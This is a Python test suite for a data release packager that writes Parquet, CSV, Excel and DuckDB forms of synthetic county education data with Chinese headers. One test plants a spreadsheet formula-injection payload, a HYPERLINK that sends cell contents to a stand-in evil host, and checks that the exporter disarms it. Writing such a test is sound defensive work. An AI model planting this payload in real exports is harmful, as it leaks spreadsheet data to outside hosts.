"""The forms of a release beside Parquet: database, CSV, workbook, data package; each says what the tables say."""

import csv
import json
import shutil
from pathlib import Path

import duckdb
import openpyxl
import pytest

from contracts import dictionary
from warehouse import package, release

TABLES = dictionary.output_tables()


@pytest.fixture(scope="module")
def folder(demo_home) -> Path:
    return (demo_home / "latest").resolve()


@pytest.fixture(scope="module")
def book(folder) -> openpyxl.Workbook:
    return openpyxl.load_workbook(folder / "数据包.xlsx")


FEW = ("dim_county_year", "dim_item", "dim_site", "rpt_scorecard")


def written(tmp_path: Path, folder: Path, *statements: str, only: tuple[str, ...] = tuple(TABLES)) -> Path:
    """A release's formats made anew from its tables, or a few of them, after some statements on them."""
    target = tmp_path / "anew"
    shutil.copytree(folder / "tables", target / "tables")
    with duckdb.connect() as con:
        for statement in statements:
            name = statement.split()[1]
            path = target / "tables" / f"{name}.parquet"
            con.execute(f"create table {name} as select * from read_parquet('{path}')")
            con.execute(statement)
            con.execute(f"copy {name} to '{path}' (format parquet)")
    rows = {name: table["rows"] for name, table in release.manifest_in(folder)["tables"].items()}
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(package.dictionary, "output_tables", lambda: {name: TABLES[name] for name in only})
        patch.setattr(package, "FOR_TOOLS", tuple(name for name in package.FOR_TOOLS if name in only))
        package.write(target, rows, "a hash")
    return target


def test_the_folder_holds_everything_a_release_is(folder):
    assert {path.name for path in folder.iterdir()} == {
        "tables", "csv", "数据包.xlsx", "junheng.duckdb", "manifest.json", "datapackage.json", "CHANGES.md", "quality.html",
        "source_rows.parquet", "source_columns.parquet",
    }  # fmt: skip
    assert {path.stem for path in (folder / "csv").iterdir()} == set(TABLES)
    manifest = release.manifest_in(folder)
    assert manifest["files"] == release.files_of(folder)
    assert manifest["formats"]["workbook"] == "数据包.xlsx"
    assert set(manifest["readings"]) == set(manifest["standards"])
    assert manifest["readings"]["quality-balance-2017"], "the readings that the results rest on"


def test_a_release_can_hold_less_beside_its_tables(tmp_path, folder):
    """The manifest says what there is; the data package describes the CSV and comes with it."""
    rows = {name: table["rows"] for name, table in release.manifest_in(folder)["tables"].items()}
    shutil.copytree(folder / "tables", tmp_path / "none" / "tables")
    assert package.write(tmp_path / "none", rows, "a hash", ()) == {"copies": []}
    assert {path.name for path in (tmp_path / "none").iterdir()} == {"tables"}
    shutil.copytree(folder / "tables", tmp_path / "csv" / "tables")
    assert package.write(tmp_path / "csv", rows, "a hash", ("csv",)) == {"copies": ["csv"]}
    assert {path.name for path in (tmp_path / "csv").iterdir()} == {"tables", "csv", "datapackage.json"}
    with pytest.raises(LookupError, match="exel"):
        package.write(tmp_path / "none", rows, "a hash", ("exel",))


def test_a_release_is_read_the_same_without_its_database(tmp_path, folder):
    shutil.copytree(folder / "tables", tmp_path / "tables")
    for name in TABLES:
        query = f"select * from {name} order by all"
        with release.open_release(folder) as database, release.open_release(tmp_path) as parquet:
            assert database.execute(query).fetchall() == parquet.execute(query).fetchall(), name
    with pytest.raises(FileNotFoundError, match="不是发布版"):
        release.open_release(tmp_path / "tables")


def test_the_same_tables_give_the_same_bytes_in_every_form_but_the_database(tmp_path, folder):
    """DuckDB 1.5 leaves bytes in its blocks that nobody set; what the database says is compared below."""
    found = []
    for _ in range(2):
        anew = written(tmp_path, folder)
        found.append({name: one for name, one in release.files_of(anew).items() if name != "junheng.duckdb"})
        shutil.rmtree(anew)
    assert found[0] == found[1] and len(found[0]) == 2 * len(TABLES) + 2


@pytest.mark.parametrize("table", TABLES)
def test_csv_has_its_mark_and_the_columns_and_rows_of_the_table(folder, table):
    path = folder / "csv" / f"{table}.csv"
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")
    with path.open(encoding="utf-8-sig", newline="") as file:
        head, *rows = csv.reader(file)
    assert head == [column.name for column in dictionary.columns(TABLES[table])]
    assert len(rows) == release.manifest_in(folder)["tables"][table]["rows"]
    assert not any(len(cell) > 1 and cell.startswith(("=", "+", "@", "\t")) for row in rows for cell in row)


def test_a_name_that_would_run_in_a_spreadsheet_is_disarmed(tmp_path, folder):
    formula = '=HYPERLINK("http://evil.example/?"&A1)'
    anew = written(tmp_path, folder, f"update rpt_scorecard set school_name = '{formula}'", only=FEW)
    with (anew / "csv" / "rpt_scorecard.csv").open(encoding="utf-8-sig", newline="") as file:
        assert {row["school_name"] for row in csv.DictReader(file)} == {f"'{formula}"}
    sheet = openpyxl.load_workbook(anew / "数据包.xlsx")["学校成绩单"]
    at = [cell.value for cell in sheet[1]].index("学校名称") + 1
    cell = sheet.cell(2, at)
    assert (cell.value, cell.data_type, cell.hyperlink) == (formula, "s", None)


def test_the_workbook_has_a_sheet_a_table_with_chinese_headers(book):
    people = [dictionary.title(TABLES[name]) for name in TABLES if name not in package.FOR_TOOLS]
    assert book.sheetnames == ["说明", "字段说明", *people]
    for name in set(TABLES) - set(package.FOR_TOOLS):
        sheet = book[dictionary.title(TABLES[name])]
        head = [cell.value for cell in sheet[1]]
        assert head == list(package.headers(TABLES[name]).values()) and len(set(head)) == len(head)
        assert (sheet.freeze_panes, sheet.auto_filter.ref.split(":")[0]) == ("A2", "A1")


def test_the_workbook_holds_the_default_readings_as_numbers_and_texts(book, folder):
    for name in set(TABLES) - set(package.FOR_TOOLS):
        columns = dictionary.columns(TABLES[name])
        where = "where readings_id = 'default'" if any(one.name == "readings_id" for one in columns) else ""
        found = duckdb.execute(f"select * from '{folder / 'tables' / name}.parquet' {where}").fetchall()
        rows = list(book[dictionary.title(TABLES[name])].iter_rows(min_row=2, values_only=True))
        assert len(rows) == len(found), name
        for cells, row in zip(rows, found, strict=True):
            for column, cell, value in zip(columns, cells, row, strict=True):
                if column.kind == "boolean" and value is not None:
                    assert cell == ("是" if value else "否")
                elif column.kind == "text":
                    assert (cell or "") == (value or "")
                else:
                    assert cell == value if value is None else cell == pytest.approx(float(value), rel=1e-15)


def test_the_workbook_says_what_it_is_and_that_it_is_made_up(book):
    said = "\n".join(f"{row[0]} {row[1]}" for row in book["说明"].iter_rows(values_only=True))
    assert "500104" in said and "2019、2020、2021、2022、2023" in said and "合成" in said and "教督〔2017〕6号" in said
    meant = {(row[1], row[3]) for row in book["字段说明"].iter_rows(min_row=2, values_only=True)}
    assert meant == {(name, column.name) for name, model in TABLES.items() for column in dictionary.columns(model)}


def test_too_many_rows_leave_a_note_in_place_of_the_workbook(tmp_path, folder, monkeypatch):
    monkeypatch.setattr(package, "MOST_ROWS", 100)
    anew = written(tmp_path, folder, only=FEW)
    assert not list(anew.glob("*.xlsx"))
    assert " 100 " in (anew / package.NOTE).read_text("utf-8")


def test_more_counties_have_a_workbook_each(tmp_path, folder):
    both = ("dim_county_year", "rpt_scorecard")
    moved = (f"update {name} set county_code = '500105' where stat_year = 2019" for name in both)
    anew = written(tmp_path, folder, *moved, only=FEW)
    assert sorted(path.name for path in (anew / "数据包").iterdir()) == ["500104.xlsx", "500105.xlsx"]
    for county in ("500104", "500105"):
        rows = openpyxl.load_workbook(anew / "数据包" / f"{county}.xlsx")["学校成绩单"].iter_rows(
            min_row=2, values_only=True
        )
        assert {row[1] for row in rows} == {county}


def test_the_data_package_is_valid_with_all_its_rows_and_keys(folder):
    import frictionless

    path = folder / "datapackage.json"
    assert list(frictionless.Package.metadata_validate(json.loads(path.read_text("utf-8")))) == []
    report = frictionless.validate(str(path))
    assert report.valid, report.flatten(["name", "type", "note"])[:5]
    rows = {task.name: task.stats.get("rows", 0) for task in report.tasks}  # an empty table has no count
    assert rows == {name: table["rows"] for name, table in release.manifest_in(folder)["tables"].items()}


@pytest.mark.parametrize(
    ("table", "was", "is_now", "kind"),
    [
        ("fact_school_summary", "not_met", "perhaps", "constraint-error"),
        ("fact_school_summary", "3450990003-0,", "345099000,", "constraint-error"),
        ("dim_item", ",R4,", ",R3,", "primary-key"),
        ("dim_county_year", "2021,500104", "1999,500104", "foreign-key"),
    ],
)
def test_the_data_package_refuses_what_it_must(tmp_path, folder, table, was, is_now, kind):
    import frictionless

    target = tmp_path / "broken"
    (target / "csv").mkdir(parents=True)
    described = json.loads((folder / "datapackage.json").read_text("utf-8"))
    wanted = {table, "fact_county_summary"} | set(package.FOREIGN_KEYS)
    described["resources"] = [one for one in described["resources"] if one["name"] in wanted]
    for name in wanted:
        text = (folder / "csv" / f"{name}.csv").read_text("utf-8-sig")
        assert name != table or was in text
        (target / "csv" / f"{name}.csv").write_text(text.replace(was, is_now) if name == table else text, "utf-8-sig")
    (target / "datapackage.json").write_text(json.dumps(described), "utf-8")
    report = frictionless.validate(str(target / "datapackage.json"))
    assert kind in {one[0] for one in report.flatten(["type"])}


def test_the_database_has_a_view_with_chinese_names_for_every_table(folder):
    with duckdb.connect(str(folder / "junheng.duckdb"), read_only=True) as con:
        views = {name for (name,) in con.execute("select view_name from duckdb_views() where not internal").fetchall()}
        assert views == {f"v_{dictionary.title(model)}" for model in TABLES.values()}
        for name, model in TABLES.items():
            found = con.execute(f'select * from "v_{dictionary.title(model)}"')
            assert [one[0] for one in found.description] == list(package.headers(model).values())
            assert found.fetchall() == con.execute(f"select * from {name}").fetchall()


def test_the_views_follow_their_tables_under_any_name(tmp_path, folder):
    shutil.copyfile(folder / "junheng.duckdb", tmp_path / "renamed.duckdb")
    with duckdb.connect(str(tmp_path / "renamed.duckdb"), read_only=True) as con:
        assert con.execute('select count(*) from "v_指标结果"').fetchone()[0] > 0
    with duckdb.connect() as con:
        con.execute(f"attach '{tmp_path / 'renamed.duckdb'}' as another (read_only)")
        assert con.execute('select count(*) from another."v_指标结果"').fetchone()[0] > 0


def test_a_folder_that_cannot_be_written_is_an_error_of_the_disk(tmp_path, folder):
    with duckdb.connect() as con:
        for name in TABLES:
            con.execute(f"create view {name} as select * from '{folder / 'tables' / name}.parquet'")
        with pytest.raises(OSError, match="nowhere"):
            package.write_workbook(con, tmp_path / "nowhere" / "数据包.xlsx", "500104", "a hash")
